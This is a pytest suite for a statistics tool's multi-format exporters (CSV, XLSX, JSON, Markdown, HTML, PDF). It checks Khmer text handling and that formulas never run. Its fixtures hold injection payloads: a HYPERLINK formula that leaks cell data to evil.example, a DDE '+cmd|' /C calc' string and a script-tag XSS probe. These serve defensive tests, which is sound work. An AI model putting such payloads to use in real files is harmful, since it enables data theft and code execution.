"""Exports: every format from the same sheets; Khmer survives, formulas never run."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from counterflow.model.errors import CounterflowError
from counterflow.stats.charts import svg_bars
from counterflow.stats.export import EXPORTERS, ExportError, export
from counterflow.stats.export.csvfile import defuse
from counterflow.stats.export.markdown import escape as md_escape
from counterflow.stats.export.pdf import print_pdf
from counterflow.stats.export.xlsxfile import sheet_name
from counterflow.stats.sheets import sheet
from counterflow.stats.table import Column, Period, Row, Sheet, Table, Unit

Y2022 = Period(date(2022, 1, 1), date(2022, 9, 30))
Y2021 = Period(date(2021, 1, 1), date(2021, 9, 30))
KM_LABELS = {"sex": "ភេទ", "female": "ស្រី", "male": "ប្រុស"}
KM_WORDS = {"Total": "សរុប", "Victims by sex": "ជនរងគ្រោះតាមភេទ"}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'

TABLE = Table(
    key="victims_by_sex",
    title="Victims by sex",
    population="victims",
    unit=Unit.PERSONS,
    dimensions=("sex",),
    columns=(Column(Y2022), Column(Y2021)),
    rows=(
        Row(("female",), (98, 201)),
        Row(("male",), (20, 61)),
        Row(("unknown",), (4, 7)),
    ),
    totals=(122, 269),
    definition="Victims | identified <b>in</b> the period.",
)


@pytest.fixture
def khmer() -> Sheet:
    return sheet(TABLE, label=lambda v: KM_LABELS.get(v, v), gettext=lambda m: KM_WORDS.get(m, m))


@pytest.fixture
def hostile() -> Sheet:
    """A sheet whose texts try to run as spreadsheet formulas."""
    return Sheet(
        key="notes",
        title="+cmd|' /C calc'!A0",
        header=("Case", "Count", "Change %"),
        rows=((HOSTILE, 3, -54.6), ("@SUM(1+1)", 1, None), ("-2+3", 2, 12.5), ("ok", 0, 0.0)),
        notes=("\tnote", "-54.6"),
    )


def test_the_registry() -> None:
    assert set(EXPORTERS) == {"csv", "xlsx", "md", "json", "html", "pdf"}
    assert EXPORTERS["xlsx"].extension == "xlsx"
    assert EXPORTERS["csv"].media_type.startswith("text/csv")


def test_an_unknown_format_is_a_clear_error(khmer: Sheet) -> None:
    with pytest.raises(ExportError, match=r"unknown export format 'docx'.*csv, xlsx"):
        export([khmer], "docx", title="t")
    assert issubclass(ExportError, CounterflowError)


# --- CSV ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-54.6", "-54.6"),  # a number, not a formula
        ("+12", "+12"),
        ("Female", "Female"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_defuse(text: str, expected: str) -> None:
    assert defuse(text) == expected


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_opens_khmer_in_excel_and_round_trips(khmer: Sheet) -> None:
    data = export([khmer], "csv", title="របាយការណ៍រួម", subtitle="2022")
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = read_csv(data)
    assert rows[0] == ["របាយការណ៍រួម"]
    assert rows[1] == ["2022"]
    assert ["ជនរងគ្រោះតាមភេទ"] in rows
    assert ["ភេទ", Y2022.label, Y2021.label, "Change %"] in rows
    assert ["ស្រី", "98", "201", "-51.2"] in rows
    assert ["សរុប", "122", "269", "-54.6"] in rows
    assert [f"Unknown: 4 of 122 — {Y2022.label}"] in rows


def test_csv_defuses_formulas(hostile: Sheet) -> None:
    rows = read_csv(export([hostile], "csv", title="=title"))
    assert rows[0] == ["'=title"]
    assert ["'+cmd|' /C calc'!A0"] in rows
    assert ["'" + HOSTILE, "3", "-54.6"] in rows
    assert ["'@SUM(1+1)", "1", ""] in rows
    assert ["'-2+3", "2", "12.5"] in rows
    assert ["'\tnote"] in rows
    assert ["-54.6"] in rows


def test_csv_one_block_per_sheet(khmer: Sheet, hostile: Sheet) -> None:
    rows = read_csv(export([khmer, hostile], "csv", title="t"))
    titles = [i for i, r in enumerate(rows) if r in (["ជនរងគ្រោះតាមភេទ"], ["'+cmd|' /C calc'!A0"])]
    assert len(titles) == 2
    assert rows[titles[1] - 1] == []  # a blank line between blocks


# --- XLSX -----------------------------------------------------------------------------


def test_xlsx_numbers_are_numbers_and_khmer_survives(khmer: Sheet) -> None:
    book = load_workbook(io.BytesIO(export([khmer], "xlsx", title="t", lang="km")))
    ws = book.worksheets[0]
    assert ws.title == "ជនរងគ្រោះតាមភេទ"
    assert ws["A1"].value == "ជនរងគ្រោះតាមភេទ"
    assert [c.value for c in ws[2]] == ["ភេទ", Y2022.label, Y2021.label, "Change %"]
    assert ws["A2"].font.bold
    assert [c.value for c in ws[3]] == ["ស្រី", 98, 201, -51.2]
    assert isinstance(ws["B3"].value, int) and isinstance(ws["D3"].value, float)
    assert [c.value for c in ws[6]] == ["សរុប", 122, 269, -54.6]
    notes = [ws.cell(row=r, column=1).value for r in range(8, ws.max_row + 1)]
    assert f"Unknown: 4 of 122 — {Y2022.label}" in notes
    assert ws.freeze_panes == "A3"


def test_xlsx_never_stores_a_formula(hostile: Sheet) -> None:
    book = load_workbook(io.BytesIO(export([hostile], "xlsx", title="t")))
    ws = book.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A3"].value == HOSTILE and ws["A3"].data_type == "s"
    assert ws["A3"].quotePrefix
    assert ws["A4"].value == "@SUM(1+1)"
    assert ws["C3"].value == -54.6 and ws["C3"].data_type == "n"


def test_xlsx_sheet_names_are_safe_and_unique(khmer: Sheet) -> None:
    long = Sheet(
        key="k", title="Victims: by sex/age [2022] and * more? " * 2, header=("a",), rows=()
    )
    book = load_workbook(io.BytesIO(export([khmer, khmer, long, long], "xlsx", title="t")))
    names = book.sheetnames
    assert len({n.casefold() for n in names}) == 4
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in names)
    assert names[1] == "ជនរងគ្រោះតាមភេទ (2)"


@pytest.mark.parametrize(
    ("wanted", "used", "expected"),
    [
        ("Cases", set(), "Cases"),
        ("Cases", {"cases"}, "Cases (2)"),
        ("'quoted'", set(), "quoted"),
        ("", set(), "Sheet"),
        ("History", set(), "History table"),
        ("a/b\\c?d*e:f[g]", set(), "a b c d e f g"),
        ("x" * 40, {"x" * 31}, "x" * 27 + " (2)"),
    ],
)
def test_sheet_name(wanted: str, used: set[str], expected: str) -> None:
    assert sheet_name(wanted, used) == expected
    assert expected.casefold() in used


# --- JSON, Markdown -------------------------------------------------------------------


def test_json_is_machine_readable(khmer: Sheet) -> None:
    data = export([khmer], "json", title="របាយការណ៍", lang="km")
    assert "ស្រី".encode() in data  # UTF-8 as written, no \u escapes
    doc = json.loads(data)
    assert doc["title"] == "របាយការណ៍" and doc["lang"] == "km"
    (only,) = doc["sheets"]
    assert only["key"] == "victims_by_sex"
    assert only["header"] == ["ភេទ", Y2022.label, Y2021.label, "Change %"]
    assert only["rows"][-1] == ["សរុប", 122, 269, -54.6]
    assert only["notes"][0] == "Victims | identified <b>in</b> the period."


def test_json_keeps_withheld_as_null(hostile: Sheet) -> None:
    doc = json.loads(export([hostile], "json", title="t"))
    assert doc["sheets"][0]["rows"][1] == ["@SUM(1+1)", 1, None]


def test_markdown_tables(khmer: Sheet) -> None:
    text = export([khmer], "md", title="Report", subtitle="Jan–Sep").decode()
    lines = text.splitlines()
    assert lines[0] == "# Report"
    assert "## ជនរងគ្រោះតាមភេទ" in lines
    assert f"| ភេទ | {Y2022.label} | {Y2021.label} | Change % |" in lines
    assert "| --- | ---: | ---: | ---: |" in lines
    assert "| សរុប | 122 | 269 | -54.6 |" in lines
    assert r"- Victims \| identified &lt;b>in&lt;/b> the period." in lines


@pytest.mark.parametrize(
    ("text", "expected"),
    [("a|b", r"a\|b"), ("two\nlines", "two lines"), ("<10", "<10"), ("<script>", "&lt;script>")],
)
def test_markdown_escape(text: str, expected: str) -> None:
    assert md_escape(text) == expected


# --- HTML, PDF ------------------------------------------------------------------------


def test_html_is_a_standalone_printable_page(khmer: Sheet) -> None:
    page = export(
        [khmer],
        "html",
        title="<script>alert(1)</script>",
        lang="km",
        charts={"victims_by_sex": svg_bars(TABLE)},
    ).decode()
    assert page.startswith("<!DOCTYPE html>")
    assert '<html lang="km">' in page
    assert '"Noto Sans Khmer"' in page or "'Noto Sans Khmer'" in page
    assert "Khmer OS" in page
    assert "<script" not in page  # escaped, and the page has no script of its own
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<svg" in page and "ស្រី" in page
    assert '<td class="num">-54.6</td>' in page
    assert "&lt;b&gt;in&lt;/b&gt;" in page
    # Nothing fetched from elsewhere: no src, no link, no url().
    assert " src=" not in page and "<link" not in page and "url(" not in page


def test_html_comma_groups_large_figures() -> None:
    big = Sheet(key="usd", title="USD", header=("", "2022"), rows=(("Total", 1_250_000),))
    assert '<td class="num">1,250,000</td>' in export([big], "html", title="t").decode()


needs_chromium = pytest.mark.skipif(
    not Path(os.environ.get("COUNTERFLOW_CHROMIUM") or "/usr/bin/chromium").exists(),
    reason="Chromium is not installed at /usr/bin/chromium (make browser installs it)",
)


@needs_chromium
def test_pdf_is_printed_by_chromium(khmer: Sheet) -> None:
    data = export(
        [khmer, khmer],
        "pdf",
        title="របាយការណ៍រួម",
        lang="km",
        charts={"victims_by_sex": svg_bars(TABLE)},
    )
    assert data.startswith(b"%PDF")
    assert b"%%EOF" in data[-1024:]


def test_pdf_without_chromium_is_a_clear_error(
    khmer: Sheet, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("COUNTERFLOW_CHROMIUM", str(tmp_path / "no-chromium"))
    with pytest.raises(ExportError, match="COUNTERFLOW_CHROMIUM"):
        export([khmer], "pdf", title="t")


def test_pdf_reports_a_failing_browser(tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\necho 'cannot open display' >&2\nexit 3\n")
    fake.chmod(0o755)
    with pytest.raises(ExportError, match=r"exit code 3.*cannot open display"):
        print_pdf(b"<p>x</p>", chromium=fake)


def test_pdf_gives_up_on_a_hung_browser(tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\nsleep 30\n")
    fake.chmod(0o755)
    with pytest.raises(ExportError, match="within 1 seconds"):
        print_pdf(b"<p>x</p>", chromium=fake, timeout=1)


def test_svg_in_html_stays_well_formed(khmer: Sheet) -> None:
    page = export([khmer], "html", title="t", charts={"victims_by_sex": svg_bars(TABLE)})
    start = page.index(b"<svg")
    end = page.index(b"</svg>") + len(b"</svg>")
    ET.fromstring(page[start:end])
